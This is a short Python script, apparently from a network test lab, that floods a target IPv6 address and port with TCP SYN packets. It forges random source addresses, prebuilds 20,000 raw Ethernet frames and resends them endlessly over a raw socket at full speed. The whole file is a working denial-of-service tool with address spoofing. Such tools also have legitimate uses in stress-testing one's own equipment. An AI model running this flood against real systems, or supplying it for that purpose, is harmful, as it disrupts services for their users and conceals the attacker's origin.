#!/usr/bin/env python3
"""A flood of SYNs from made-up IPv6 sources, until it is told to end: syn_flood.py DEVICE MAC ADDRESS PORT.

The frames are made beforehand, and then sent over and over as fast as the device takes them.
"""

import os
import random
import socket
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.realpath(__file__)), ".."))

# pylint: disable=wrong-import-position
from lab import packets

FRAMES = 20_000


def made_up(source):
    """An address of a host somewhere."""
    return f"2001:{source.randrange(0xe00, 0xf00):x}:{source.getrandbits(16):x}::" \
           f"{source.getrandbits(16):x}:{source.randrange(1, 65536):x}"


def syn(source, mac, destination_mac, address, port):
    sender = made_up(source)
    segment = packets.tcp(sender, address, source.randrange(1024, 65536), port, packets.SYN,
                          sequence=source.getrandbits(32))
    return packets.ethernet(destination_mac, mac, packets.ETH_IPV6,
                            packets.ipv6(sender, address, segment))


def main(device, destination_mac, address, port):
    with open(f"/sys/class/net/{device}/address", encoding="ascii") as file:
        mac = file.read().strip()
    source = random.Random(1)
    frames = [syn(source, mac, destination_mac, address, int(port)) for _ in range(FRAMES)]
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind((device, 0))
        while True:
            for frame in frames:
                wire.send(frame)


if __name__ == "__main__":
    main(*sys.argv[1:])
